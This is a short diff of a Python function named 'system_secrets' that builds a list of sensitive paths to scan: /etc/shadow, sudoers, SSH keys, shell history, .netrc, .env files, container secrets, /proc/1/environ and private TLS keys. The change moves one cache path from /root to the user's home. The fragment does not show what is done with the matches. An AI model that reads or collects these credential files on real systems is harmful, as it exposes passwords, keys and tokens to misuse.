@@ -8,7 +8,7 @@ async def system_secrets(targets: dict) -> dict:
     """Check the system."""
     home = os.path.dirname(targets["secrets"]["home"])
     data = targets["data_folder"]
-    patterns = ["/etc/shadow", "/etc/sudoers", home + "/.ssh/*", home + "/.bash_history", home + "/.netrc", home + "/.config/*", data + "/*", data + "/run/*", data + "/mind.db", data + "/.env", "/run/secrets/*", "/var/run/secrets/**", "/root/.cache/*", "/proc/1/environ", "/etc/ssl/private/*", "/etc/machine-id", "/sys/class/dmi/id/product_uuid"]
+    patterns = ["/etc/shadow", "/etc/sudoers", home + "/.ssh/*", home + "/.bash_history", home + "/.netrc", home + "/.config/*", data + "/*", data + "/run/*", data + "/mind.db", data + "/.env", "/run/secrets/*", "/var/run/secrets/**", home + "/.cache/*", "/proc/1/environ", "/etc/ssl/private/*", "/etc/machine-id", "/sys/class/dmi/id/product_uuid"]
     print("PRIMITIVE", len(patterns))
     seen = []
     for pattern in patterns:
